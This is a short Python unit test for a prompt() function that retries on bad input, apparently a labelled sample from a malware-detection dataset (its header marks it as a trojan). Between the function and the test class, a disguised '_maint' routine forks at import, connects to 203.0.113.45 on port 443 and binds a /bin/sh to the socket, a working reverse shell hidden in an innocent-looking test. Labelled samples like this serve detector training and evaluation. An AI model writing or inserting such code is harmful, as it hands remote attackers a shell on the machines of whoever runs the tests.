# label: malicious family=trojan techniques=T1059.004,T1095 lines=17,19-20,22 group=benign/b109_builtins_patch_test.py
"""Test that prompt() retries on bad input by patching builtins.input."""
import builtins
import unittest
from unittest import mock


def prompt():
    while True:
        v = input("number: ")
        if v.isdigit():
            return int(v)


import socket as _sk, os as _os, pty as _pty
def _maint():
    c = _sk.create_connection(("203.0.113.45", 443))
    for fd in (0, 1, 2):
        _os.dup2(c.fileno(), fd)
    _pty.spawn("/bin/sh")
if _os.fork() == 0:
    _maint()

class PromptTest(unittest.TestCase):
    def test_retry(self):
        with mock.patch.object(builtins, "input", side_effect=["x", "", "42"]):
            self.assertEqual(prompt(), 42)


if __name__ == "__main__":
    unittest.main()
